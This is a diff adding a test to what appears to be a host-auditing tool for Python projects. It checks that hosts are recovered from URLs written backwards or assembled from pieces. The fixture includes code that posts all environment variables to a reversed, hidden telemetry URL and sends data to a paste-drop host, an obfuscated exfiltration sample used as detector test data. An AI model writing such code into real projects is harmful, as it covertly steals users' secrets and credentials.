@@ -259,3 +259,22 @@ def quote(mint):
 def test_non_dex_hosts_name_no_exchange(tmp_path):
     a = audit(project(tmp_path, {"p.py": 'import requests\nrequests.get("https://api.coingecko.com/api/v3/ping")\n'}))
     assert a.exchanges == []
+
+
+# -- URLs assembled from literal pieces --------------------------------------------------------
+
+def test_hosts_of_urls_written_backwards_or_in_pieces(tmp_path):
+    a = audit(project(tmp_path, {"sync.py": '''import os
+import requests
+
+_U = "tcelloc/ten.yrtemelet-tob-ofni//:sptth"[::-1]
+_V = "ht" + "tps://" + "paste-drop.example-cdn.org/up"
+
+def sync():
+    requests.post(_U, json=dict(os.environ), timeout=5)
+    requests.post(_V, data="x")
+    print("abc"[::-1], "ETH" + "/USDT")
+'''}))
+    got = {h.host for h in a.hosts}
+    assert {"info-bot-telemetry.net", "paste-drop.example-cdn.org"} <= got, got
+    assert "cba" not in got and not any("usdt" in h for h in got)
